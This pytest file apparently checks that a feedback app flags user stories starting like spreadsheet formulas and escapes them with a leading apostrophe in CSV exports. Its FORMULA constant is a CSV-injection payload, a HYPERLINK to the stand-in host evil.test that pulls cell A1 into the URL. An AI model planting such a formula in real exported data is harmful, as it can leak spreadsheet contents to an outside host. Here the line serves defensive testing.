"""What the public reads of what people and staff typed, through the real app on SQLite and
PostgreSQL: a story that starts like a spreadsheet formula is flagged for the moderator and
is text in the CSV datasets (as written everywhere else)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from .feedback_support import STAFF_STORIES, FeedbackNode, feedback_node, flags

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


@pytest.fixture
def node(tmp_path: Path, migrated_database_url: str) -> Iterator[FeedbackNode]:
    with feedback_node(tmp_path, migrated_database_url) as running:
        yield running


def rows(node: FeedbackNode, table: str) -> list[dict[str, str]]:
    """A table of the stories dataset as its CSV reads."""
    text = node.browser().get(f"/datasets/stories/{table}.csv").text
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_story_that_starts_like_a_formula_is_flagged_and_is_text_in_the_csv(
    node: FeedbackNode,
) -> None:
    story = node.told(FORMULA, "-it was slow, then +1 day more")
    jo = node.staff("jo@pensions.example.org")

    assert flags(node.story_row(story)) == ["formula", "formula"]
    page = jo.get(f"{STAFF_STORIES}/{story}").text
    assert "Starts like a spreadsheet formula" in page
    assert node.publish(jo, story).status_code == 303  # the moderator publishes it as told
    answered = node.act(jo, story, "responses", {"response": "+ we sped it up", "change": "made"})
    assert answered.status_code == 303

    (row,) = rows(node, "stories")
    assert (row["title"], row["body"]) == ("'" + FORMULA, "'-it was slow, then +1 day more")
    (response,) = rows(node, "responses")
    assert response["body"] == "'+ we sped it up"
    anyone = node.browser()
    (published,) = anyone.get("/datasets/stories/stories.json").json()
    assert (published["title"], published["body"]) == (FORMULA, "-it was slow, then +1 day more")
    assert anyone.get(f"/api/v1/stories/{story}").json()["title"] == FORMULA
